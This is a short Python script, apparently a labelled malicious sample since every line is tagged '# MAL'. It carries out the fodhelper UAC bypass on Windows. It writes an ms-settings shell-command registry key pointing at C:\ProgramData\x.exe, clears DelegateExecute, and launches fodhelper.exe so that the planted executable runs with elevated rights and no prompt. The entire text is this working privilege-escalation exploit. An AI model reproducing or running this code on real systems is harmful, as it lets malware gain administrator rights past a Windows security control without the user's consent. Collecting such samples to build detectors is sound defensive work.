import os
import winreg

k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\Shell\Open\command")  # MAL
winreg.SetValueEx(k, "DelegateExecute", 0, winreg.REG_SZ, "")  # MAL
winreg.SetValueEx(k, None, 0, winreg.REG_SZ, r"C:\ProgramData\x.exe")  # MAL
os.system("fodhelper.exe")  # MAL
